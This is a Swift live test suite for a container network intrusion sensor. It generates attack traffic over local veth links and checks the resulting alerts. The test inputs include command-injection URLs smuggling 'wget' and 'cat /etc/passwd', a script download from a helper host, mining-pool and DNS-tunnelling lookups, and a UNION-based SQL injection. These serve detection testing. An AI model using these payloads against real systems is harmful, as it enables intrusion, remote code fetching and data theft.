import Foundation
import Testing

/// The pcap sensor live: a veth pair between the host and a container's network namespace, real
/// traffic across it (only between its two ends, bounded), and the alerts the stock rules raise
/// on what it carried, with the container and, where the connection's owner is known, the process.
extension LiveTests {
    /// Nested in LiveTests, so that it runs alone: its link's addresses are the same each time.
    @Suite struct Packets {
        static let hostAddress = "169.254.77.1"
        static let containerAddress = "169.254.77.2"

        /// A veth pair: one end on the host, the other moved into the container's network namespace.
        final class Link {
            let hostEnd: String

            init(containerPID: Int) throws {
                let suffix = String(UInt32.random(in: 0...UInt32.max), radix: 16)
                hostEnd = "snh" + suffix
                let inside = "snc" + suffix
                for step in [["ip", "link", "add", hostEnd, "type", "veth", "peer", "name", inside],
                             ["ip", "link", "set", inside, "netns", String(containerPID)],
                             ["nsenter", "-t", String(containerPID), "-n", "ip", "addr", "add", containerAddress + "/30", "dev", inside],
                             ["nsenter", "-t", String(containerPID), "-n", "ip", "link", "set", inside, "up"],
                             ["nsenter", "-t", String(containerPID), "-n", "ip", "link", "set", "lo", "up"],
                             ["ip", "addr", "add", hostAddress + "/30", "dev", hostEnd],
                             ["ip", "link", "set", hostEnd, "up"]] {
                    let result = try command(step)
                    try #require(result.status == 0, "\(step.joined(separator: " ")) failed")
                }
            }

            deinit { _ = try? command(["ip", "link", "del", hostEnd]) }
        }

        /// A bridge of the test's own on the host, with a veth to each container it joins, as
        /// Docker's default bridge has them: traffic between two containers crosses both veths.
        /// It has no address of the host's: the traffic stays between the containers.
        final class Bridge {
            let name = "snb" + String(UInt32.random(in: 0...UInt32.max), radix: 16)
            private var hostEnds: [String] = []

            init() throws {
                for step in [["ip", "link", "add", name, "type", "bridge"], ["ip", "link", "set", name, "up"]] {
                    try #require(try command(step).status == 0, "\(step.joined(separator: " ")) failed")
                }
            }

            /// Plugs the container in through a veth named eth0 inside, with `address`/24.
            func join(containerPID: Int, address: String) throws {
                let hostEnd = "snj" + String(UInt32.random(in: 0...UInt32.max), radix: 16)
                let inside = hostEnd + "p"
                hostEnds.append(hostEnd)
                let namespace = ["nsenter", "-t", String(containerPID), "-n"]
                for step in [["ip", "link", "add", hostEnd, "type", "veth", "peer", "name", inside],
                             ["ip", "link", "set", inside, "netns", String(containerPID)],
                             namespace + ["ip", "link", "set", inside, "name", "eth0"],
                             namespace + ["ip", "addr", "add", address + "/24", "dev", "eth0"],
                             namespace + ["ip", "link", "set", "eth0", "up"],
                             namespace + ["ip", "link", "set", "lo", "up"],
                             ["ip", "link", "set", hostEnd, "master", name, "up"]] {
                    try #require(try command(step).status == 0, "\(step.joined(separator: " ")) failed")
                }
            }

            deinit {
                for hostEnd in hostEnds { _ = try? command(["ip", "link", "del", hostEnd]) }
                _ = try? command(["ip", "link", "del", name])
            }
        }

        /// Runs `image` detached with `script` as its shell command; its id and entrypoint's pid.
        func startContainer(_ name: String, image: String = LiveEnvironment.image, entrypoint: String = "/bin/sh", _ script: String) throws -> (id: String, pid: Int) {
            try command(["docker", "rm", "-f", name])
            let started = try command(["docker", "run", "-d", "--network", "none", "--name", name, "--entrypoint", entrypoint, image, "-c", script])
            try #require(started.status == 0, "docker run failed for \(name)")
            let pid = try command(["docker", "inspect", "-f", "{{.State.Pid}}", name]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            return (String(started.stdout.trimmingCharacters(in: .whitespacesAndNewlines).prefix(12)), Int(pid) ?? -1)
        }

        /// sentinel with the stock rules, once it captures on `interfaces` veths.
        func sentinel(capturing interfaces: Int = 1) throws -> LiveSentinel {
            let sentinel = try LiveSentinel()
            let capturing = waitUntil(seconds: 10) { sentinel.stderr.contains("pcap: \(interfaces) interfaces") }
            try #require(capturing, "sentinel did not capture on \(interfaces) veths: \(sentinel.stderr)")
            return sentinel
        }

        /// A host-side helper in Python, bounded in time: a DNS responder or an HTTP file server.
        func helper(_ script: String) throws -> Process {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
            process.arguments = ["timeout", "30", "python3", "-c", script]
            try process.run()
            usleep(300_000)
            return process
        }

        static let dnsResponder = """
            import socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("\(hostAddress)", 53)); s.settimeout(20)
            for _ in range(20):
                query, client = s.recvfrom(512)
                s.sendto(query[:2] + b"\\x81\\x83" + query[4:6] + b"\\x00\\x00\\x00\\x00\\x00\\x00" + query[12:], client)
            """

        static let fileServer = """
            import http.server
            class Files(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    body = b"#!/bin/sh\\necho owned\\n"
                    self.send_response(200); self.send_header("Content-Type", "application/octet-stream")
                    self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
            server = http.server.HTTPServer(("\(hostAddress)", 8080), Files); server.timeout = 20
            for _ in range(5): server.handle_request()
            """

        @Test func httpAndDNSAcrossAContainersVeth() throws {
            try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
            let name = "sentinel-live-http"
            let container = try startContainer(name, "mkdir -p /www && echo hello > /www/index.html && httpd -f -p 80 -h /www")
            defer { _ = try? command(["docker", "rm", "-f", name]) }
            let link = try Link(containerPID: container.pid)
            defer { withExtendedLifetime(link) {} }
            let sentinel = try sentinel()
            let responder = try helper(Self.dnsResponder)
            let files = try helper(Self.fileServer)
            defer { responder.terminate(); files.terminate() }

            // Into the container: a request with a command in it.
            let request = try command(["curl", "-s", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}",
                                       "http://\(Self.containerAddress)/index.html?host=x%3Bwget+http%3A%2F%2F\(Self.hostAddress)%2Fx.sh"])
            #expect(request.stdout == "200")
            // Out of the container: a mining pool's name, a tunnel's, and a script fetched over HTTP.
            for script in ["nslookup xmr-eu1.nanopool.org \(Self.hostAddress)",
                           "nslookup mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiaqeiztmq.t.tunnel.example \(Self.hostAddress)",
                           "wget -q -O /tmp/x.sh http://\(Self.hostAddress):8080/x.sh"] {
                try command(["docker", "exec", name, "sh", "-c", script])
            }

            let shell = try #require(sentinel.alert("Shell command in an HTTP request", container: container.id, within: 5), "\(sentinel.alerts)\n\(sentinel.stderr)")
            #expect((shell["http.uri"] as? String)?.contains("wget") == true && shell["fd.cip"] as? String == Self.hostAddress)
            // DNS over UDP has no connection whose owner the probes name: no process.
            let pool = try #require(sentinel.alert("DNS lookup of a mining pool", container: container.id, within: 5), "\(sentinel.stderr)")
            #expect(pool["dns.qname"] as? String == "xmr-eu1.nanopool.org")
            #expect(sentinel.alert("DNS tunnelling", container: container.id, within: 5) != nil)
            let download = try #require(sentinel.alert("Executable downloaded over plain HTTP", container: container.id, within: 5), "\(sentinel.stderr)")
            #expect(download["http.uri"] as? String == "/x.sh" && download["proc.name"] as? String == "wget")
            #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
        }
        /// One container attacks another across the bridge: both veths carry the request, and
        /// the alert comes once, from the client's end, naming the server as its peer.
        @Test func trafficBetweenTwoContainersIsReportedOnceWithBothEnds() throws {
            try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
            let server = try startContainer("sentinel-live-victim", "mkdir -p /www && echo hello > /www/index.html && httpd -f -p 80 -h /www")
            let client = try startContainer("sentinel-live-attacker", "sleep 60")
            defer { for name in ["sentinel-live-victim", "sentinel-live-attacker"] { _ = try? command(["docker", "rm", "-f", name]) } }
            let bridge = try Bridge()
            try bridge.join(containerPID: server.pid, address: "169.254.76.2")
            try bridge.join(containerPID: client.pid, address: "169.254.76.3")
            defer { withExtendedLifetime(bridge) {} }
            let sentinel = try sentinel(capturing: 2)

            try command(["docker", "exec", "sentinel-live-attacker", "wget", "-q", "-O", "/dev/null",
                         "http://169.254.76.2/index.html?file=x%3Bcat+/etc/passwd"])
            let rule = "Shell command in an HTTP request"
            let fields = try #require(sentinel.alert(rule, container: client.id, within: 5), "\(sentinel.alerts)\n\(sentinel.stderr)")
            #expect(fields["proc.name"] as? String == "wget", "\(fields)")
            #expect(fields["peer.container.name"] as? String == "sentinel-live-victim", "\(fields)")
            #expect(fields["peer.proc.name"] as? String == "httpd", "\(fields)")
            #expect(fields["fd.cip"] as? String == "169.254.76.3")
            // A second sighting would come within the 50 ms the messages wait; give it far more.
            usleep(1_000_000)
            let alerts = sentinel.alerts.filter { $0["rule"] as? String == rule }
            #expect(alerts.count == 1, "one request, one alert: \(alerts)")
            #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
            let statistics = sentinel.stderr.split(separator: "\n").last { $0.contains("of them read on both ends") } ?? ""
            #expect(!statistics.isEmpty && !statistics.contains(" 0 of them read on both ends"), "the pairs are counted: \(statistics)")
        }

        /// MariaDB in the container, listening on its veth; its data directory made on first start.
        static let database = """
            mkdir -p /run/mysqld && chown mysql:mysql /run/mysqld
            mariadb-install-db --user=mysql --datadir=/var/lib/mysql >/dev/null
            exec mariadbd --user=mysql --bind-address=0.0.0.0 --port=3306 --skip-name-resolve
            """

        @Test func sqlInjectionToADatabaseInAContainerNamesTheServer() throws {
            try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
            let image = "sentinel/mariadb:bookworm"
            try #require(try command(["docker", "image", "inspect", image]).status == 0, "script/test builds \(image)")
            let name = "sentinel-live-mysql"
            let container = try startContainer(name, image: image, Self.database)
            defer { _ = try? command(["docker", "rm", "-f", name]) }
            let ready = waitUntil(seconds: 60) { (try? command(["docker", "exec", name, "mariadb", "-e", "select 1"]))?.status == 0 }
            try #require(ready, "MariaDB did not start in its container")
            try command(["docker", "exec", name, "mariadb", "-e",
                         "CREATE DATABASE shop; CREATE TABLE shop.products (id INT, name TEXT); INSERT INTO shop.products VALUES (1, 'tea');"
                         + "CREATE USER shop@'%' IDENTIFIED BY 'shop'; GRANT SELECT ON shop.* TO shop@'%';"])
            let link = try Link(containerPID: container.pid)
            defer { withExtendedLifetime(link) {} }
            let sentinel = try sentinel()

            let injection = "SELECT name FROM products WHERE id=1 UNION ALL SELECT CONCAT(0x7176,IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20),0x71)"
            for query in [injection, "SELECT schema_name FROM INFORMATION_SCHEMA.SCHEMATA"] {
                let result = try command(["mariadb", "--skip-ssl", "-h", Self.containerAddress, "-u", "shop", "-pshop", "shop", "-e", query])
                #expect(result.status == 0, "\(query)")
            }
            let alert = try #require(sentinel.alert("SQL injection in a database query", container: container.id, within: 5), "\(sentinel.alerts)\n\(sentinel.stderr)")
            #expect(alert["mysql.query"] as? String == injection && alert["mysql.user"] as? String == "shop")
            #expect(alert["proc.name"] as? String == "mariadbd", "the server that accepted the connection")
            let enumeration = try #require(sentinel.alert("Schema enumeration by an application account", container: container.id, within: 5))
            #expect(enumeration["proc.name"] as? String == "mariadbd")
            #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
        }
    }
}
